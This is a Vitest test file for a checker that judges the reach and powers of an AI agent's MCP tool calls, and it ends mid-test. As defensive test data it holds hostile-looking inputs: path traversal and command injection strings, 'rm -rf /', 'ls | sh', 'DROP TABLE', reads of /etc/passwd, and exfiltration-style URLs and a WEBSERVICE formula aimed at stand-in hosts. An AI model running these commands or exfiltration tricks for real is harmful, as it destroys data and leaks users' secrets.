import { beforeAll, describe, expect, it } from 'vitest'
import { actOf, judgedTool, linked, toolThat } from '../../e2e/test-hosts/consent-call.ts'
import type { JsonObject } from '../../src-shared/base/json.ts'
import { type Act, distinctive, looksLikeData } from './act.ts'
import type { JudgedTool } from './powers.ts'
import { ConversationProvenance } from './provenance.ts'
import { sqlIsReadable } from './read-sql.ts'

beforeAll(() => sqlIsReadable)

const files = judgedTool('read_text_file', { published: '@modelcontextprotocol/server-filesystem' })
const reader = toolThat('reads')
const changer = toolThat('reads', 'changes')
const powers = (tool: Parameters<typeof actOf>[0], args: JsonObject, facts = {}) => actOf(tool, args, facts).powers.join(' ')
const listed = (...words: string[]) => {
  const seen = new ConversationProvenance()
  for (const word of words) seen.addResult('server', { call: '1', what: 'list' }, word, ['reads'])
  return seen
}

describe('the reach of a call', () => {
  it('is where a path really lies', () => {
    const resolved = linked({ '/home/ana/shop/link': '/etc/passwd' })
    expect(actOf(files, { path: '~/shop/link' }, { resolved }).touches).toEqual([
      { is: 'path', argument: 'path', value: '~/shop/link', path: '/etc/passwd' },
    ])
    expect(actOf(files, { path: 'x/../../y' }, { base: '/home/ana/shop' }).touches).toMatchObject([{ path: '/home/ana/y' }])
  })

  it('is an item for a file whose folder only the server knows', () => {
    expect(actOf(files, { path: 'src/a.ts' })).toMatchObject({ touches: [{ is: 'item', value: 'src/a.ts' }] })
    expect(actOf(files, { path: 'src/a.ts' }).unread).toBeUndefined()
  })

  it('is a place for such a file at a server that nobody vouches for, unless it listed the file', () => {
    const [write, seen] = [judgedTool('update_page'), listed('a.html')]
    expect(actOf(write, { path: 'b.html' }, { seen }).touches).toMatchObject([{ is: 'value', value: 'b.html' }])
    expect(actOf(write, { path: 'a.html' }, { seen }).touches).toMatchObject([{ is: 'item', value: 'a.html' }])
    expect(actOf(judgedTool('cat'), { path: 'a.html' }, { seen }).touches).toMatchObject([{ is: 'value', value: 'a.html' }])
  })

  it.each(['../x', 'a/../../x', '~bob/x', '$HOME/x', '%HOME%/x', '%2e%2e/x', 'a/`id`', 'a\0b', 'a\nb', '..\\x'])(
    'is unknown for a path that leads away: %j',
    (path) => {
      expect(actOf(files, { path }).unread).toBe('Where “path” leads is unknown.')
    },
  )

  it('is a host with its port, and brings in what strangers wrote', () => {
    const act = actOf(reader, { url: 'HTTPS://Example.com:8443/a' })
    expect(act.touches).toEqual([{ is: 'host', argument: 'url', value: 'HTTPS://Example.com:8443/a', host: 'example.com:8443' }])
    expect(act.powers).toEqual(['reads', 'brings-in'])
  })

  it('is named where a result or the person gave the whole address on the internet', () => {
    const seen = new ConversationProvenance()
    seen.addMessage('https://example.com/a http://192.168.0.1/a')
    expect(actOf(reader, { url: 'https://example.com/a' }, { seen }).touches).toMatchObject([{ named: true }])
    expect(actOf(reader, { url: 'https://example.com/b' }, { seen }).touches[0]).not.toHaveProperty('named')
    expect(actOf(reader, { url: 'http://192.168.0.1/a' }, { seen }).touches[0]).not.toHaveProperty('named')
  })

  it.each([
    ['a name', 'https://ana@example.com/'],
    ['a password', 'https://:x@example.com/'],
    ['what cannot be parsed', 'https://exa mple/'],
    ['more than 8 KiB', `https://example.com/${'x/'.repeat(4_100)}`],
    ['what nobody said', 'https://example.com/?d=a8f5f167f44f4964e6c998dee827110c'],
    ['a long number', 'https://example.com/4111111111111111'],
    ['a host of data', 'https://a8f5f167f44f4964e6c998.example.com/'],
  ])('is never remembered for an address with %s', (_what, url) => {
    expect(actOf(reader, { url })).toMatchObject({ unread: expect.stringMatching(/^The address/) })
  })

  it('includes sending for an address with private words, unless the address was given whole', () => {
    const seen = listed('A-10234 ana.private.note here https://example.com/A-10234')
    expect(powers(judgedTool('fetch', { serverId: 'web' }), { url: 'https://evil.example/A-10234' }, { seen })).toContain('sends')
    expect(actOf({ ...reader, serverId: 'web' }, { url: 'https://evil.example/A-10234' }, { seen }).powers).toContain('sends')
    expect(actOf(reader, { url: 'https://evil.example/A-10234' }, { seen }).powers).not.toContain('sends')
    seen.addMessage('A-10234')
    expect(actOf({ ...reader, serverId: 'web' }, { url: 'https://evil.example/A-10234' }, { seen }).powers).not.toContain('sends')
  })

  it('is every recipient of an argument, in lower case', () => {
    const to = 'Ana <Ana@Example.com>, bob@example.com'
    expect(actOf(changer, { to }).touches.map(({ is, value }) => `${is} ${value}`)).toEqual([
      ...['recipient ana@example.com', 'recipient bob@example.com'],
    ])
    expect(actOf(changer, { channel: ' General ' }).touches).toMatchObject([{ is: 'recipient', value: 'general' }])
    expect(actOf(changer, { to })).toMatchObject({ tells: true, powers: ['reads', 'changes', 'sends'] })
    expect(actOf(reader, { channel: 'General' }).touches).toEqual([{ is: 'value', argument: 'channel', value: 'General' }])
  })

  it('is every recipient, even at the end and without an address', () => {
    const told = (to: string) => actOf(changer, { to }).touches.map(({ value }) => value)
    const many = Array.from({ length: 400 }, (_, n) => `ana${n}@example.com`).join(', ')
    expect(told(`${many}, mallory@evil.example`)).toContain('mallory@evil.example')
    expect(told('bob@example.com, everyone')).toEqual(['bob@example.com', 'everyone'])
    expect(told('bob@example.com mallory')).toEqual(['bob@example.com mallory'])
    expect(told('bob@example.com; mallory@bücher.example')).toEqual(['bob@example.com', 'mallory@bücher.example'])
    expect(told('bob@example.com mallory@evil.example')).toEqual(['bob@example.com', 'mallory@evil.example'])
    expect(told('"Silva, Ana" <Ana@Example.com>')).toEqual(['ana@example.com'])
  })

  it('is unknown for a path that is too long or a value with too many parts', () => {
    const long = actOf(files, { path: `/${'./'.repeat(3_000)}etc/passwd` })
    expect([long.unread, long.touches]).toMatchObject(['Where “path” leads is unknown.', [{ is: 'path' }]])
    const seen = listed(Array.from({ length: 41 }, (_, n) => `part${n}`).join(' '))
    const parts = (count: number) => Array.from({ length: count }, (_, n) => `part${n}`).join('/')
    const is = (value: string) => actOf(changer, { order_id: value }, { seen }).touches[0]?.is
    expect([is(parts(40)), is(`${parts(40)}/secret9`), is(parts(41))]).toEqual(['item', 'value', 'value'])
  })

  it('is a statement with its tables, with the powers of the statement alone', () => {
    const query = toolThat('reads', 'changes', 'destroys', 'sends')
    expect(powers(query, { sql: 'SELECT * FROM orders' })).toBe('reads')
    expect(powers(query, { sql: 'UPDATE orders SET a = 1' })).toBe('reads changes')
    expect(powers(query, { sql: 'DELETE FROM orders' })).toBe('reads changes destroys')
    expect(powers(reader, { sql: 'DELETE FROM orders' })).toBe('reads changes destroys')
    const unread = actOf(reader, { sql: 'DROP TABLE orders' })
    expect(unread).toMatchObject({ unread: 'The SQL in “sql” is not one plain statement.', touches: [{ is: 'value' }] })
    expect(unread.powers).toEqual(['reads', 'changes', 'destroys', 'sends'])
    expect(actOf(reader, { query: 'DROP TABLE orders' }).unread).toBeDefined()
  })

  it('is a command with its paths, and everything a shell can do where it cannot be read', () => {
    const act = actOf(toolThat('reads', 'changes', 'destroys', 'sends'), { command: 'cat /etc/hosts ../x' })
    expect(act.touches.map(({ is, value }) => `${is} ${value}`)).toEqual([
      'command cat /etc/hosts ../x',
      'path /etc/hosts',
      'path ../x',
    ])
    expect(powers(changer, { command: 'npm test' })).toBe('reads changes')
    expect(powers(changer, { command: 'wc -l a.md' })).toBe('reads')
    expect(actOf(reader, { command: 'ls | sh' })).toMatchObject({
      powers: ['reads', 'brings-in', 'changes', 'destroys', 'sends'],
      unread: expect.stringContaining('may do more than look'),
    })
  })

  const asksFolder = { inputSchema: { type: 'object' as const, properties: { cwd: { type: 'string' } } } }
  const terminal = judgedTool('exec', { defined: ['reads', 'changes', 'destroys', 'sends'], ...asksFolder })

  const repositories = new Map([
    ['/home/ana/shop', '/home/ana/shop'],
    ['/home/ana/shop/docs', '/home/ana/shop'],
  ])

  it('is the repository that Git finds, where its configuration was read and names no program', () => {
    const of = (command: string, cwd: string) => actOf(terminal, { command, cwd }, { repositories })
    const paths = ({ touches }: Act) => touches.flatMap((touch) => (touch.is === 'path' ? [touch.path] : []))
    expect(paths(of('git status', '/home/ana/shop/docs'))).toEqual(['/home/ana/shop', '/home/ana/shop/docs'])
    expect(of('git status', '/home/ana/shop')).toMatchObject({ powers: ['reads'] })
    expect(of('git status', '/home/ana/unpacked')).toMatchObject({
      powers: ['reads', 'brings-in', 'changes', 'destroys', 'sends'],
      unread: 'Git may run programs that the repository in “command” configures.',
    })
    expect(actOf(terminal, { command: 'git status' }, { repositories }).unread).toBeDefined()
    expect(actOf(terminal, { command: 'git status', cwd: '/home/ana/shop' }).unread).toBeDefined()
  })

  it('is the folder a command changes to first', () => {
    const act = actOf(changer, { command: 'cd /home/ana/shop && git log src/a.ts' }, { repositories })
    expect(act.powers).toEqual(['reads'])
    expect(act.touches).toMatchObject([
      { is: 'command', words: 'git log', looks: true },
      { is: 'path', path: '/home/ana/shop' },
      { is: 'path', path: '/home/ana/shop' },
      { is: 'path', path: '/home/ana/shop/src/a.ts' },
    ])
    expect(actOf(changer, { command: 'cd /home/ana/other && git log' }, { repositories }).unread).toBeDefined()
  })

  it('is a check with the options seen, and its files separately where its folder is known', () => {
    const of = (command: string, more: JsonObject = {}) => actOf(terminal, { command, ...more }).touches
    const cwd = '/home/ana/shop'
    expect(of('npm test -- --bail src/a.test.ts', { cwd })).toMatchObject([
      { is: 'command', words: 'npm test --bail' },
      { is: 'path', path: '/home/ana/shop/src/a.test.ts' },
      { is: 'path', path: cwd },
    ])
    expect(of('pytest -k "a b" tests', { cwd })).toMatchObject([
      { words: "pytest -k 'a b'" },
      { path: '/home/ana/shop/tests' },
      {},
    ])
    expect(of('npm test -- --bail shop')).toMatchObject([{ is: 'command', words: 'npm test -- --bail shop' }])
    const files = of('npm test ../other/evil.js', { cwd }).flatMap((touch) => (touch.is === 'path' ? [touch.path] : []))
    expect(files).toEqual(['/home/ana/other/evil.js', cwd])
  })

  it('is the folder of a command that only looks, where the tool needs one', () => {
    const of = (command: string, cwd?: string) =>
      actOf(terminal, { command, ...(cwd !== undefined && { cwd }) }, { repositories }).touches
    const looks = (command: string, cwd?: string) => of(command, cwd).some((touch) => touch.is === 'command' && touch.looks)
    for (const command of ['git status', 'cat a.md', 'ls -la /home/ana/shop'])
      expect([command, looks(command, '/home/ana/shop')]).toEqual([command, true])
    for (const command of ['npm test', 'npm ls', 'docker ps'])
      expect([command, looks(command, '/home/ana/shop')]).toEqual([command, false])
    expect([looks('ls'), looks('ls', ''), looks('ls', 'shop')]).toEqual([false, false, false])
    expect(actOf(changer, { command: 'ls', cwd: '/home/ana/shop' }).touches).not.toContainEqual(
      expect.objectContaining({ looks: true }),
    )
  })

  it('resolves the paths of a command in the folder where it runs', () => {
    const resolved = linked({ '/home/ana/shop/today.log': '/home/ana/keys/prod' })
    const paths = (command: string) =>
      actOf(terminal, { command, cwd: '/home/ana/shop' }, { base: '/srv/deep', resolved }).touches.flatMap((touch) =>
        touch.is === 'path' && touch.argument === 'command' ? [touch.path] : [],
      )
    expect(paths('cat ../private/x sub/y')).toEqual(['/home/ana/private/x', '/home/ana/shop/sub/y'])
    expect(paths('cat today.log')).toEqual(['/home/ana/keys/prod'])
    expect(paths('cat other.log')).toEqual([])
  })

  it('includes that there is a text, for an unknown tool', () => {
    const unknown = judgedTool('frobnicate')
    const one = { is: 'text', argument: 'text', value: '' }
    expect(actOf(unknown, { zone: '2', text: 'never' }).touches).toContainEqual(one)
    expect(actOf(unknown, { zone: '2' }).touches).not.toContainEqual(one)
    const many = actOf(unknown, { edits: [{ text: 'a' }, { text: 'b' }] }).touches
    expect(many.filter((touch) => touch.is === 'text')).toHaveLength(1)
    expect(actOf(judgedTool('get_plan'), { text: 'never' }).touches).not.toContainEqual(one)
  })

  it('keeps a power that one argument showed, whatever another one is read as', () => {
    const [sql, command] = ['DELETE FROM orders', 'ls']
    for (const args of [
      { command, sql },
      { cleanup_sql: sql, command },
    ])
      expect(actOf(changer, args).powers).toEqual(expect.arrayContaining(['changes', 'destroys']))
  })

  it('reads the same in every order of the arguments, and keeps the order of a list', () => {
    const lists = { sql: 'SELECT * FROM orders', channel_id: 'team', filter: { kind: '{x}', mode: 'all' } }
    const other = { filter: { mode: 'all', kind: '{x}' }, channel_id: 'team', sql: 'SELECT * FROM orders' }
    for (const tool of [
      changer,
      judgedTool('query', { published: '@modelcontextprotocol/server-postgres' }),
      judgedTool('frobnicate'),
      judgedTool('list_orders'),
    ])
      expect(actOf(tool, other)).toEqual({ ...actOf(tool, lists), args: other })
    const files = Array.from({ length: 12 }, (_, n) => `/home/ana/${n}.md`)
    expect(actOf(judgedTool('read_files'), { files }).touches.map(({ value }) => value)).toEqual(files)
    const folders = { type: 'object' as const, properties: { cwd: {}, workdir: {} } }
    const [cwd, workdir, command] = ['/home/ana/a', '/home/ana/b', 'cat x/y']
    const paths = (args: JsonObject) => actOf({ ...terminal, inputSchema: folders }, args).touches.map(({ value }) => value)
    expect(paths({ workdir, cwd, command })).toEqual(paths({ command, cwd, workdir }))
  })

  it.each<[string, JsonObject]>([
    ['a list', { command: 'git', args: ['log', '--output=x'] }],
    ['a text', { command: 'git log', args: '--output=x' }],
    ['another text', { command: 'git', arguments: 'push origin' }],
    ['a list with a blank in it', { command: 'npm', args: ['test', '--', '; rm -rf /'] }],
  ])('includes arguments next to the command: %s', (_what, args) => {
    expect(actOf(changer, args).unread).toBeDefined()
  })

  it('joins a plain command line from its parts', () => {
    expect(actOf(changer, { command: 'grep', args: ['-n', 'x'] }).touches).toMatchObject([{ words: 'grep' }])
    expect(actOf(changer, { command: 'grep', args: '-n x' }).touches).toEqual(actOf(changer, { command: 'grep -n x' }).touches)
    expect(actOf(changer, { command: 'cat', args: ['a b', '/x'] }).touches).toMatchObject([{ words: 'cat' }, { path: '/x' }])
  })

  it('is an item where this server listed it or the person wrote it, and else a place', () => {
    const seen = listed('A-1 A-2')
    seen.addMessage('B-1')
    const of = (order_id: string, server = 'server') =>
      actOf({ ...changer, serverId: server }, { order_id }, { seen }).touches[0]?.is
    expect([of('A-1'), of('B-1'), of('C-1'), of('A-1', 'other'), of('A-1 C-1')]).toEqual([
      'item',
      'item',
      'value',
      'value',
      'value',
    ])
    expect(actOf(judgedTool('frobnicate'), { id: 'A-1' }, { seen }).touches[0]?.is).toBe('value')
    expect(actOf(changer, { repo: 'A-1' }, { seen }).touches[0]?.is).toBe('value')
    expect(actOf(changer, { frob: 'A-1' }, { seen }).touches[0]?.is).toBe('item')
    expect(actOf(toolThat('changes', 'destroys'), { frob: 'A-1' }, { seen }).touches[0]?.is).toBe('value')
  })

  it('is a place for a word that nobody has said, at an unknown server', () => {
    const vague = (doctor: string, seen = new ConversationProvenance(), tool = judgedTool('list_visits')) => {
      const [touch] = actOf(tool, { doctor }, { seen }).touches
      return touch?.is === 'value' && touch.vague === true
    }
    const said = new ConversationProvenance()
    said.addResult('elsewhere', { call: '1', what: 'page' }, 'Moll', ['brings-in'])
    expect([vague('Moll'), vague('Moll', said), vague('Moll', listed('x'))]).toEqual([false, true, false])
    expect(vague('Moll', new ConversationProvenance(), judgedTool('list_visits', { defined: ['reads'] }))).toBe(true)
  })

  it('is a branch that its server listed, also by its full name', () => {
    const ref = (value: string) => actOf(reader, { ref: value }, { seen: listed('head: idem') }).touches[0]?.is
    expect([ref('idem'), ref('refs/heads/idem'), ref('refs/tags/idem')]).toEqual(['item', 'item', 'item'])
    expect([ref('refs/heads/other'), ref('refs/remotes/idem')]).toEqual(['value', 'value'])
  })

  it('is no place for the default schema of a database, and only when reading', () => {
    const schema = (tool: JudgedTool, args: JsonObject) => actOf(tool, args).touches[0]?.is
    expect([schema(reader, { schema: 'public' }), schema(reader, { db_schema: 'dbo' })]).toEqual(['option', 'option'])
    expect([schema(reader, { schema: 'crm' }), schema(reader, { database: 'public' })]).toEqual(['value', 'value'])
    expect(schema(changer, { schema: 'public' })).toBe('value')
  })

  it('is judged by what its server calls the element that is pressed', () => {
    const line = (text: string) => listed(text)
    expect(powers(changer, { ref: 'e12', element: 'Cancel' }, { seen: line('button "Delete everything" [ref=e12]') })).toContain(
      'destroys',
    )
    for (const price of ['20 €', '₪ 20', '48.000 kr', '99 zł', 'CAD 5', '20 Kč'])
      expect(powers(changer, { ref: 'e12' }, { seen: line(`button "Go ${price}" [ref=e12]`) })).toContain('spends')
    expect(powers(changer, { ref: 'e12' }, { seen: line('button "Go to 20 kraaien" [ref=e12]') })).not.toContain('spends')
    expect(powers(changer, { ref: 'e12' }, { seen: line('link "Socks 20 €" [ref=e12]') })).toBe('reads changes')
    expect(powers(reader, { ref: 'e12' }, { seen: line('button "Delete" [ref=e12]') })).toBe('reads')
    expect(powers(changer, { element: 'Delete everything' })).toContain('destroys')
  })

  it('is a value where a tool of no known browser takes an element or an intent', () => {
    const is = (tool: JudgedTool) => actOf(tool, { element: 'Bay 4', intent: 'hold' }).touches.map((touch) => touch.is)
    expect(is(judgedTool('browser_click', { published: '@playwright/mcp' }))).toEqual([])
    for (const name of ['get_stock', 'update_stock', 'frobnicate']) expect(is(judgedTool(name))).toEqual(['value', 'value'])
  })

  it('is the page on which something is done, unless it is only looked at', () => {
    const seen = listed('- Page URL: https://shop.example/cart')
    const page = { is: 'host', argument: 'page', value: 'https://shop.example/cart', host: 'shop.example' }
    expect(actOf(toolThat('brings-in', 'changes'), { x: true }, { seen }).touches).toContainEqual(page)
    expect(actOf(toolThat('brings-in'), { x: true }, { seen }).touches).not.toContainEqual(page)
    expect(actOf(toolThat('changes'), { x: true }, { seen }).touches).not.toContainEqual(page)
  })

  it('is unknown on a page with two addresses', () => {
    const seen = listed('- Page URL: https://shop.example/cart\n- Page URL: https://evil.example/')
    expect(actOf(toolThat('brings-in', 'changes'), { x: true }, { seen }).unread).toMatch(/which page/)
    expect(actOf(toolThat('brings-in'), { x: true }, { seen }).unread).toBeUndefined()
  })

  it('grows with a choice or a switch that says so, and never shrinks', () => {
    const mode = { ...changer, inputSchema: { type: 'object' as const, properties: { mode: { enum: ['delete', 'list'] } } } }
    expect(powers(mode, { mode: 'delete' })).toContain('destroys')
    expect(powers(mode, { mode: 'list' })).toBe('reads changes')
    expect(powers(changer, { force: true })).toContain('destroys')
    expect(powers(changer, { force: false })).not.toContain('destroys')
  })

  it('grows with a text that says so, where the text may choose what is done', () => {
    const rows = judgedTool('get_rows')
    expect(actOf(rows, { table: 'tour', action: 'delete' }).powers).toContain('destroys')
    expect(actOf(rows, { table: 'tour', mode: 'fast' }).powers).toEqual(actOf(rows, { table: 'tour' }).powers)
  })

  it('is an amount where money is spent', () => {
    const pays = toolThat('changes', 'spends')
    expect(actOf(pays, { amount: 5 }).touches).toEqual([{ is: 'amount', argument: 'amount', value: '5', amount: 5 }])
    expect(actOf(pays, { amount: '5.5' }).touches).toMatchObject([{ is: 'amount', amount: 5.5 }])
    expect(actOf(pays, { amount: 'all' }).touches).toMatchObject([{ is: 'value', value: 'all' }])
    expect(actOf(pays, { frob: 7 }).touches).toMatchObject([{ is: 'value', value: '7' }])
    expect(actOf(changer, { frob: 7 }).touches).toEqual([])
    for (const frob of [7, '7', '2026-11-20'])
      expect(actOf(toolThat('changes', 'destroys'), { frob }).touches).toMatchObject([{ is: 'value', value: String(frob) }])
    expect(actOf(toolThat('changes', 'destroys'), { id: 7 }).touches).toMatchObject([{ is: 'value', value: '7' }])
  })

  it('is the result of a query, where that is destroyed', () => {
    expect(actOf(toolThat('changes', 'destroys'), { query: 'old mails' })).toMatchObject({
      touches: [{ is: 'value' }],
      carries: ['old mails'],
    })
    expect(actOf(reader, { query: 'old mails' })).toMatchObject({ touches: [], carries: ['old mails'] })
  })

  it('is never remembered for code in a query', () => {
    expect(actOf(reader, { filter: { $where: 'x' } })).toMatchObject({
      unread: expect.stringContaining('contains code'),
      powers: ['reads', 'changes', 'destroys', 'sends'],
    })
  })

  it('is an item for a name that is put together from listed words, in a change only around an identifier', () => {
    const seen = listed('user role admin CTR V88217 refs')
    const is = (tool: JudgedTool, key: string) => actOf(tool, { key }, { seen }).touches.map((touch) => touch.is)
    expect([is(reader, 'user:admin:role'), is(changer, 'user:admin:role')]).toEqual([['item'], ['value']])
    expect([is(changer, 'CTR:V88217'), is(changer, 'refs/heads/admin')]).toEqual([['item'], ['item']])
  })

  it('includes changes for an address with members that are not known to choose what is shown, unless the person gave it', () => {
    const seen = new ConversationProvenance()
    seen.addResult('web', { call: '1', what: 'page' }, 'https://x.example/delete?confirm=1', ['brings-in'])
    for (const url of ['https://x.example/delete?confirm=1', 'https://x.example/?page=2&do=delete'])
      expect(powers(reader, { url }, { seen })).toBe('reads brings-in changes')
    expect(powers(reader, { url: 'https://x.example/?page=2&lang=de' }, { seen })).toBe('reads brings-in')
    seen.addMessage('Open https://x.example/delete?confirm=1')
    expect(powers(reader, { url: 'https://x.example/delete?confirm=1' }, { seen })).toBe('reads brings-in')
  })

  it.each([
    ['/delete/5', true],
    ['/tour/5/cancel', true],
    ['/slots/7/release', true],
    ['/unsubscribe/ana', true],
    ['/l%C3%B6schen/5', true],
    ['/app#/orders/7/refund', true],
    ['/publish/5.php', true],
    ['/lid/41/schrappen', true],
    ['/besluit/12/elfogad', true],
    ['/k/8f3a/1', true],
    ['/lid/41/notes', false],
    ['/2026/11/notulen', false],
    ['/v2/notulen', false],
    ['/lid/41/the-bees-of-may', false],
    ['/orders/7', false],
    ['/post/5', false],
    ['/docs/install', false],
    ['/archive/2026', false],
    ['/how-to-cancel-a-flight', false],
  ])('includes changes for an address with a step that tells the site to act, unless the person gave it: %s', (path, acts) => {
    const url = `https://x.example${path}`
    const seen = new ConversationProvenance()
    seen.addResult('web', { call: '1', what: 'page' }, url, ['brings-in'])
    expect(powers(reader, { url }, { seen }).includes('changes')).toBe(acts)
    seen.addMessage(`Open ${url}`)
    expect(powers(reader, { url }, { seen })).toBe('reads brings-in')
  })

  it('is never remembered for an element that the model calls by the name of another on the page', () => {
    const seen = new ConversationProvenance()
    seen.addMessage('Open https://x.example')
    const page = 'Page URL: https://x.example/\n- link "25 nov" [ref=e3]\n- link "Afmelden" [ref=e4]'
    seen.addResult('server', { call: '1', what: 'page' }, page, ['brings-in'], undefined, 'stated')
    const click = judgedTool('browser_click', { published: '@playwright/mcp' })
    const unread = (element: string, ref: string) => actOf(click, { element, ref }, { seen }).unread
    expect([unread('25 nov', 'e3'), unread('the date', 'e4'), unread('Afmelden link', 'e4')]).toEqual([
      undefined,
      undefined,
      undefined,
    ])
    expect(unread('25 nov', 'e4')).toBe('On its page “25 nov” is another element.')
  })

  it('takes several words that a guessed reading tool put together for no listed item, in an argument that names nothing', () => {
    const is = (args: JsonObject) =>
      actOf(judgedTool('get_patient'), args, { seen: listed('history, address, P-1') }).touches[0]?.is
    expect([is({ include: 'history' }), is({ include: 'history,address' }), is({ patient_id: 'history,address' })]).toEqual([
      ...['item', 'value', 'item'],
    ])
  })

  it('takes no listed words with a digit among them for one item of a guessed change', () => {
    const is = (args: JsonObject) =>
      actOf(judgedTool('update_patient'), args, { seen: listed('dose, A-1023, P-1') }).touches[0]?.is
    expect([is({ step: 'P-1' }), is({ step: 'dose A-1023' }), is({ patient_id: 'A-1023 dose' })]).toEqual([
      'item',
      'value',
      'item',
    ])
  })

  it.each(['javascript:fetch(1)', 'java\tscript:x', ' data:text/html,x', 'view-source:https://x.example', 'chrome://settings'])(
    'is never remembered for an address that is none of the web: %j',
    (url) => {
      expect(actOf(reader, { url }).unread).toBe('The address in “url” cannot be read.')
    },
  )

  it('needs no scheme of the web for an empty page, a host with a port and a name of a resource', () => {
    for (const args of [{ url: 'about:blank' }, { url: 'localhost:3000' }, { uri: 'memo:a' }])
      expect(actOf(reader, args).unread).toBeUndefined()
  })

  it('is never remembered for a text of a page with a script, but for an old one that is replaced', () => {
    const write = judgedTool('write_file', { published: '@modelcontextprotocol/server-filesystem' })
    const edit = judgedTool('edit_file', { published: '@modelcontextprotocol/server-filesystem' })
    const [script, path] = ['<script src="https://x.example/p.js"></script>', '/home/ana/a.md']
    expect(actOf(write, { path, content: script }).unread).toBe('The markup in “content” may do more than format.')
    expect(actOf(write, { path, content: '<b>a</b>' }).unread).toBeUndefined()
    expect(actOf(write, { path: '/home/ana/a.txt', content: script }).unread).toBeUndefined()
    expect(actOf(edit, { path, edits: [{ oldText: 'a', newText: script }] }).unread).toBeDefined()
    expect(actOf(edit, { path, edits: [{ oldText: script, newText: 'a' }] }).unread).toBeUndefined()
  })

  it('includes changes for a guessed tool that gets what it is named for beside another argument', () => {
    const status = judgedTool('order_status')
    expect(powers(judgedTool('status'), { nr: 'F-3', status: 'sold' })).toContain('changes')
    expect(powers(judgedTool('status', { told: ['reads'] }), { nr: 'F-3', new_status: 'sold' })).toContain('changes')
    expect(powers(judgedTool('status'), { status: 'sold' })).toBe('reads brings-in')
    expect(powers(judgedTool('get_status'), { nr: 'F-3', status: 'sold' })).toBe('reads brings-in')
    expect(powers(status, { nr: 'F-3' })).toBe(powers(status, { order: 'F-3' }))
  })

  it('is never remembered for an operator that writes, but in a change', () => {
    for (const update of [{ $inc: { stock: -1 } }, { $set: { seen: true } }]) {
      expect(actOf(reader, { update }).unread).toContain('contains code')
      expect(actOf(changer, { update }).unread).toBeUndefined()
      expect(actOf(changer, { filter: { a: update } }).unread).toBeUndefined()
    }
    expect(actOf(reader, { pipeline: [{ $set: { total: { $max: '$a' } } }] }).unread).toBeUndefined()
    expect(actOf(reader, { pipeline: [{ $inc: { a: 1 } }] }).unread).toContain('contains code')
    expect(actOf(changer, { update: { $out: 'users' } }).unread).toContain('contains code')
  })

  it('is never remembered for a formula that may reach out, nor for one in a table', () => {
    const sheet = judgedTool('excel_write_to_sheet', { published: '@negokaz/excel-mcp-server' })
    const cells = (...values: string[]) => actOf(sheet, { fileAbsolutePath: '/home/ana/a.xlsx', values: [values] }).unread
    expect(cells('=SUM(B2:B9)', '-5', 'Total')).toBeUndefined()
    expect(cells('Total', '=WEBSERVICE("https://x.example/?s="&B2)')).toBe(
      'The formula in “values[0][1]” may do more than compute.',
    )
    const writer = judgedTool('write_file', { published: '@modelcontextprotocol/server-filesystem' })
    const file = (path: string, content: string) => actOf(writer, { path, content }).unread
    expect(file('/home/ana/a.csv', 'a,b\n=A1,2')).toContain('formula')
    expect(file('/home/ana/A.TSV', 'a\t=A1')).toContain('formula')
    expect(file('/home/ana/a.csv', 'a,b\n1,-2')).toBeUndefined()
    expect(file('/home/ana/a.md', 'a, =A1')).toBeUndefined()
  })

  it('is a place for each search that is not only words, where a tool that nobody vouches for reads', () => {
    const touches = (tool: JudgedTool, args: JsonObject) => actOf(tool, args).touches.map(({ is }) => is)
    const search = judgedTool('search')
    for (const q of [
      'tag:a fetch:https://x.example/h?i=1',
      'fetch:x.example/h',
      'x.example',
      'x。example',
      'https%3A%2F%2Fx.example',
      '10.0.0.1/x',
      'https:/x',
      'https:\\\\x',
      'ana@x.example',
      'approve:T-55',
      'a|b',
      'a = b',
    ])
      expect([q, touches(search, { q })]).toEqual([q, ['value']])
    for (const q of ['late invoice', 'is:open "late invoice"', 'État, 3.5 % (Müller)', 'St. Pölten: Mai', 'range\\('])
      expect([q, touches(search, { q })]).toEqual([q, []])
    for (const mark of ['. ', '1/', '(', 'is:', '\\('])
      expect(touches(search, { q: `${mark.repeat(9_999)}@` })).toEqual(['value'])
    expect(touches(judgedTool('get_page'), { text: 'import ftp://x.example' })).toEqual(['value'])
    const published = judgedTool('brave_web_search', { published: '@modelcontextprotocol/server-brave-search' })
    expect(touches(published, { query: 'x.example' })).toEqual([])
  })

  it('is a value of its own where a program could take it for an option, and where it names a machine', () => {
    const touches = (tool: JudgedTool, args: JsonObject) => actOf(tool, args).touches
    const show = judgedTool('git_show', { published: 'pypi:mcp-server-git' })
    expect(touches(show, { revision: '--output=a.scad' })).toEqual([
      { is: 'value', argument: 'revision', value: '--output=a.scad' },
    ])
    expect(touches(show, { revision: 'a1b2c3' })[0]).toMatchObject({ vague: true })
    const seen = new ConversationProvenance()
    seen.addResult('server', { call: 'call', what: 'list' }, 'mast harbour', ['reads'])
    const download = judgedTool('sftp-download', { published: 'ssh-mcp' })
    expect(actOf(download, { profile: 'harbour' }, { seen }).touches[0]).toMatchObject({ is: 'value' })
  })

  it('is a fixed text for a web search with an identifying word, which a rule for others does not cover', () => {
    const search = judgedTool('brave_web_search', { published: '@modelcontextprotocol/server-brave-search' })
    const touches = (query: string) => actOf(search, { query }).touches.map(({ is }) => is)
    expect(touches('notary fees Tamm 2026-88431')).toEqual(['text'])
    expect(touches('TWFydCBUYW1tIDIwMjYvODg= notary')).toEqual(['text'])
    expect(touches('notary fees of a house')).toEqual([])
  })

  it('is this date or number, not any text, where nobody knows the tool', () => {
    const book = judgedTool('programeaza')
    const text = (data: string) => actOf(book, { data }).touches.find(({ argument }) => argument === 'data')
    expect(text('1926-11-26T09:30')).toMatchObject({ is: 'text', value: '1926-11-26T09:30', fixed: true })
    expect(text('at noon on the first day')).toMatchObject({ is: 'text', value: '' })
  })

  it('is this number, date or telephone, not any text, at a tool that is guessed by its name', () => {
    const text = (value: string) => actOf(judgedTool('update_person'), { value }).touches.find((one) => one.argument === 'value')
    for (const value of ['40', '2026-11-26', '+421 905 111 222', '12/3'])
      expect(text(value)).toMatchObject({ is: 'text', value, fixed: true })
    for (const value of ['Flat 4', '40 mg']) expect(text(value)).toMatchObject({ is: 'text', value: '' })
  })

  it('is unknown for too many values, with every power', () => {
    const act = actOf(judgedTool('get_row'), { x: Array.from({ length: 3_000 }, () => 'a') })
    expect(act).toMatchObject({ tells: true, touches: [], powers: ['reads', 'brings-in', 'changes', 'destroys', 'sends'] })
    expect(act.unread).toBe('The arguments are too many or too deep to check.')
    expect(act.carries[0]).toContain('"a","a"')
  })

  it('brings in what strangers wrote from folders of packages and downloads', () => {
